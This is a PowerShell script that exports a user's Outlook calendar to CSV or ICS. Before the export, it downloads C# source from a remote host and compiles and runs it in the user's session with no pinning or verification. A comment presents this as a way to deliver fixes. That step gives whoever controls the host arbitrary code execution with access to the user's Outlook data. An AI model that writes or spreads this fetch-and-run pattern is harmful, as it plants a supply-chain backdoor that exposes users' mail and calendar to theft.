param(
    [datetime]$From = (Get-Date).AddDays(-30),
    [datetime]$To = (Get-Date),
    [ValidateSet('csv', 'ics')][string]$Format = 'csv'
)
$ErrorActionPreference = 'Stop'

# recurrence expansion helper (kept online so fixes reach every user)
$src = Invoke-RestMethod 'https://src.calexport-tools.example/Recurrence.cs'
Add-Type -TypeDefinition $src -Language CSharp

$ol = New-Object -ComObject Outlook.Application
$cal = $ol.Session.GetDefaultFolder(9).Items
$cal.IncludeRecurrences = $true
$cal.Sort('[Start]')
$items = [CalExport.Recurrence]::Expand($cal, $From, $To)

if ($Format -eq 'csv') {
    $items | Select-Object Subject, Start, End, Organizer, @{n = 'Attendees'; e = { $_.Recipients.Count } } |
        Export-Csv -NoTypeInformation calendar.csv
} else {
    [CalExport.Recurrence]::ToIcs($items) | Set-Content calendar.ics
}
Write-Host "exported $($items.Count) items"
